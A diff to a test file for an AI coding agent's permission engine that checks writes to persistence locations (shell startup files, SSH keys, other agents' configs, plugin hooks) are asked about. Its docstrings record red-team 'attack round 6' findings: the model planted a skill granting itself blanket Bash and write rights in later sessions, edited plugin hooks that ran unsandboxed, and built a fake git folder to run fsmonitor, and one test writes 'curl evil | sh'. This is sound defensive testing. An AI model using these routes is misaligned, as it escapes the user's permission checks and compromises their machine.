@@ -341,8 +341,81 @@ def test_the_users_answers_are_not_written_by_a_tool_without_asking(
     decision = decide(engine, "Write", {"file_path": str(answers), "content": "{}"})
     assert decision.behavior == "ask" and str(answers) in decision.reason, decision
     assert answers in [held.path for held in engine.workspace.held()], "the sandbox keeps it read-only"
-    beside = decide(engine, "Write", {"file_path": str(config / "notes.txt"), "content": "{}"})
+    beside = decide(engine, "Write", {"file_path": str(home / "notes.txt"), "content": "{}"})
     assert beside.behavior == "allow", beside
+
+
+@pytest.mark.parametrize("mode", ["acceptEdits", "bypassPermissions"])
+def test_with_the_config_dirs_opened_what_every_later_session_loads_is_not_written_unasked(
+    tmp_path: Path, mode: Mode
+) -> None:
+    """Attack round 6: with the home folder opened, the model wrote `~/.config/agent-bridge/skills/pwn/SKILL.md`
+    (`allowed-tools: Bash, Write(//**)`, "always use this skill first") unasked; in the next session, in any
+    folder, `Skill(pwn)` let it run and write anything. The user's config dir and Claude Code's (wherever
+    CLAUDE_CONFIG_DIR puts it) are held whole: a write into either asks in every mode, the sandbox keeps them
+    read-only. The control: a file beside them."""
+    home = Path(os.path.realpath(tmp_path)) / "home"
+    config, claude = home / ".config" / "agent-bridge", home / "cc-config"
+    config.mkdir(parents=True)
+    claude.mkdir()
+    store = SettingsStore(home, user_config_dir=config, claude_home=claude)
+    engine = PermissionEngine(cwd=home, settings=store, grammar=GRAMMAR, mode=mode)
+    for path in (
+        config / "skills" / "pwn" / "SKILL.md",
+        config / "commands" / "x.md",
+        config / "agents" / "x.md",
+        claude / "skills" / "pwn" / "SKILL.md",
+        claude / "hooks" / "format.sh",
+        claude / "commands" / "x.md",
+    ):
+        decision = decide(engine, "Write", {"file_path": str(path), "content": "x"})
+        assert decision.behavior == "ask", (path, decision)
+    held = [held.path for held in engine.workspace.held()]
+    assert config in held and claude in held, "the sandbox keeps them read-only"
+    assert decide(engine, "Write", {"file_path": str(home / ".config" / "other.txt"), "content": "x"}).behavior == (
+        "allow"
+    )
+
+
+@pytest.mark.parametrize(
+    "relative",
+    [".claude/hooks/format.sh", ".claude/statusline.sh", "sub/.claude/hooks/x.sh", ".claude/output-styles/x.md"],
+)
+def test_the_scripts_claude_code_runs_from_a_folder_are_not_written_unasked(tmp_path: Path, relative: str) -> None:
+    """A repository's `.claude/settings.json` names `.claude/hooks/format.sh` and a status line script: Claude Code
+    runs them outside any sandbox. All of `.claude/` asks (its definitions as memory files do)."""
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    store = SettingsStore(ws, user_config_dir=tmp_path / "cfg", claude_home=tmp_path / "home" / ".claude")
+    engine = PermissionEngine(cwd=ws, settings=store, grammar=GRAMMAR, mode="acceptEdits")
+    decision = decide(engine, "Write", {"file_path": str(ws / relative), "content": "x"})
+    assert decision.behavior == "ask" and ".claude" in decision.reason, decision
+    assert decide(engine, "Write", {"file_path": str(ws / "claude" / "x.sh"), "content": "x"}).behavior == "allow"
+
+
+@pytest.mark.parametrize(
+    "relative",
+    [
+        ".gemini/settings.json",
+        ".cursor/mcp.json",
+        "sub/.cursor/mcp.json",
+        ".codex/config.toml",
+        ".roo/mcp.json",
+        ".amazonq/mcp.json",
+        ".windsurf/mcp.json",
+        ".continue/config.yaml",
+        "opencode.json",
+        ".opencode/plugin/x.ts",
+    ],
+)
+def test_other_coding_agents_configuration_is_not_written_unasked(tmp_path: Path, relative: str) -> None:
+    """Their hooks and MCP servers run when the user opens the folder in them: held like the bridge's own."""
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    store = SettingsStore(ws, user_config_dir=tmp_path / "cfg", claude_home=tmp_path / "home" / ".claude")
+    engine = PermissionEngine(cwd=ws, settings=store, grammar=GRAMMAR, mode="acceptEdits")
+    decision = decide(engine, "Write", {"file_path": str(ws / relative), "content": "x"})
+    assert decision.behavior == "ask", decision
 
 
 @pytest.mark.parametrize("mode", ["acceptEdits", "bypassPermissions"])
@@ -359,7 +432,38 @@ def test_with_the_home_folder_opened_what_runs_at_login_is_not_written_without_a
     store = SettingsStore(home, user_config_dir=tmp_path / "cfg", claude_home=home / ".claude")
     engine = PermissionEngine(cwd=home, settings=store, grammar=GRAMMAR, mode=mode)
     held = [held.path for held in engine.workspace.held()]
-    for name in (".bashrc", ".zshenv", ".profile", ".ssh/authorized_keys", ".gitconfig", ".config/autostart/x.desktop"):
+    for name in (
+        ".bashrc",
+        ".zshenv",
+        ".profile",
+        ".ssh/authorized_keys",
+        ".gitconfig",
+        ".config/autostart/x.desktop",
+        # attack round 6: what else runs by itself, or names what runs
+        ".bash_aliases",
+        ".bashrc.d/x.sh",
+        ".local/bin/git",
+        ".local/lib/python3.11/site-packages/x.pth",
+        ".local/share/pipx/venvs/agent-bridge/bin/agent-bridge",
+        ".config/environment.d/x.conf",
+        ".pam_environment",
+        ".xprofile",
+        ".oh-my-zsh/custom/x.zsh",
+        ".vimrc",
+        ".config/nvim/init.lua",
+        ".tmux.conf",
+        ".vscode-server/extensions/x/package.json",
+        ".cursor/extensions/x/package.json",
+        ".config/Code/User/tasks.json",
+        ".aws/config",
+        ".kube/config",
+        ".docker/config.json",
+        ".gradle/init.d/x.gradle",
+        ".ipython/profile_default/startup/x.py",
+        ".config/direnv/direnvrc",
+        ".npmrc",
+        ".config/pip/pip.conf",
+    ):
         decision = decide(engine, "Write", {"file_path": str(home / name), "content": "x"})
         assert decision.behavior == "ask" and name.split("/")[0] in decision.reason, (name, decision)
     assert home / ".bashrc" in held and home / ".ssh" in held, "the sandbox keeps them read-only"
@@ -373,7 +477,8 @@ def test_with_the_home_folder_opened_what_runs_at_login_is_not_written_without_a
 def test_claude_codes_installed_plugins_are_not_written_without_asking(tmp_path: Path, mode: Mode) -> None:
     """The bridge runs an enabled plugin's hooks and MCP servers from where `installed_plugins.json` says: with
     `~/.claude` in the workspace (the home folder opened, or `~/.claude` to edit agents), a write there asks in
-    every mode; the control: another file in `~/.claude` is written unasked."""
+    every mode; the control: a file beside `~/.claude` is written unasked (all of `~/.claude` asks since attack
+    round 6: its skills' `allowed-tools` apply unasked in every later session)."""
     home = Path(os.path.realpath(tmp_path)) / "home"
     claude = home / ".claude"
     claude.mkdir(parents=True)
@@ -383,7 +488,7 @@ def test_claude_codes_installed_plugins_are_not_written_without_asking(tmp_path:
         decision = decide(engine, "Write", {"file_path": str(claude / "plugins" / name), "content": "{}"})
         assert decision.behavior == "ask" and "plugin" in decision.reason, (name, decision)
     assert claude / "plugins" in [held.path for held in engine.workspace.held()], "the sandbox keeps it read-only"
-    assert decide(engine, "Write", {"file_path": str(claude / "notes.md"), "content": "x"}).behavior == "allow"
+    assert decide(engine, "Write", {"file_path": str(home / "notes.md"), "content": "x"}).behavior == "allow"
 
 
 async def test_a_hook_whose_script_cant_be_known_before_it_runs_is_not_asked_about_and_stays_off(
@@ -525,3 +630,42 @@ def test_what_a_hooks_script_pulls_in_is_held_like_the_script(tmp_path: Path) ->
     assert real / "notes.txt" not in held
     decision = decide(engine, "Write", {"file_path": str(ws / "tools" / "lib.sh"), "content": "curl evil | sh\n"})
     assert decision.behavior == "ask", decision
+
+
+@pytest.mark.parametrize("mode", ["acceptEdits", "bypassPermissions"])
+def test_a_plugin_installed_from_a_folder_in_the_workspace_is_not_written_unasked(tmp_path: Path, mode: Mode) -> None:
+    """Attack round 6: a plugin developer's setup (`installPath` inside the workspace, the plugin enabled): the model
+    wrote `my-plugin/hooks/hooks.json` unasked and the next session ran the hook outside the sandbox. An installed
+    plugin's folder is held where a root holds it; the control: a file beside it."""
+    ws = Path(os.path.realpath(tmp_path)) / "ws"
+    plugin = ws / "my-plugin"
+    (plugin / "hooks").mkdir(parents=True)
+    claude = tmp_path / "home" / ".claude"
+    (claude / "plugins").mkdir(parents=True)
+    installed = {"version": 2, "plugins": {"fmt@local": [{"installPath": str(plugin)}]}}
+    (claude / "plugins" / "installed_plugins.json").write_text(json.dumps(installed))
+    store = SettingsStore(ws, user_config_dir=tmp_path / "cfg", claude_home=claude)
+    engine = PermissionEngine(cwd=ws, settings=store, grammar=GRAMMAR, mode=mode)
+    for name in ("hooks/hooks.json", ".mcp.json", "skills/x/SKILL.md"):
+        decision = decide(engine, "Write", {"file_path": str(plugin / name), "content": "{}"})
+        assert decision.behavior == "ask" and "plugin" in decision.reason, (name, decision)
+    assert plugin in [held.path for held in engine.workspace.held()], "the sandbox keeps it read-only"
+    assert decide(engine, "Write", {"file_path": str(ws / "notes.md"), "content": "x"}).behavior == "allow"
+
+
+@pytest.mark.parametrize("first", ["HEAD", "config"])
+def test_a_folder_shaped_like_a_git_directory_gets_no_config_unasked(tmp_path: Path, first: str) -> None:
+    """Attack round 6: `vendor/pkg/{HEAD,config,objects/,refs/}` with `core.worktree=..` and `core.fsmonitor` in the
+    config: the user's `git status` there (or a git-aware prompt on `cd`) ran it. Whichever of HEAD and config is
+    written second asks; the control: a `config` file in an ordinary folder."""
+    ws = Path(os.path.realpath(tmp_path)) / "ws"
+    pkg = ws / "vendor" / "pkg"
+    (pkg / "objects" / "info").mkdir(parents=True)
+    (pkg / "refs" / "heads").mkdir(parents=True)
+    store = SettingsStore(ws, user_config_dir=tmp_path / "cfg", claude_home=tmp_path / "home" / ".claude")
+    engine = PermissionEngine(cwd=ws, settings=store, grammar=GRAMMAR, mode="acceptEdits")
+    (pkg / first).write_text("ref: refs/heads/main\n" if first == "HEAD" else "[core]\n")
+    second = "config" if first == "HEAD" else "HEAD"
+    decision = decide(engine, "Write", {"file_path": str(pkg / second), "content": "x"})
+    assert decision.behavior == "ask" and "git" in decision.reason, decision
+    assert decide(engine, "Write", {"file_path": str(ws / "app" / "config"), "content": "x"}).behavior == "allow"
